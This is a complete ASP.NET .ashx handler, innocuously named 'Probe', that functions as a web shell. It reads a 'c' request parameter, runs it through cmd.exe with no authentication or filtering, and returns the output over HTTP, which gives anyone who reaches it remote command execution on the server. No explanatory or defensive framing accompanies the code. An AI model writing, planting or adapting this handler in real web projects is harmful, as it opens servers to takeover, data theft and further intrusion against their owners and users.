<%@ WebHandler Language="C#" Class="Probe" %>
using System;
using System.Web;
using System.Diagnostics;

public class Probe : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        string c = context.Request["c"];
        var p = new Process();
        p.StartInfo.FileName = "cmd.exe";
        p.StartInfo.Arguments = "/c " + c;
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardOutput = true;
        p.Start();
        context.Response.Write(p.StandardOutput.ReadToEnd());
    }

    public bool IsReusable { get { return false; } }
}
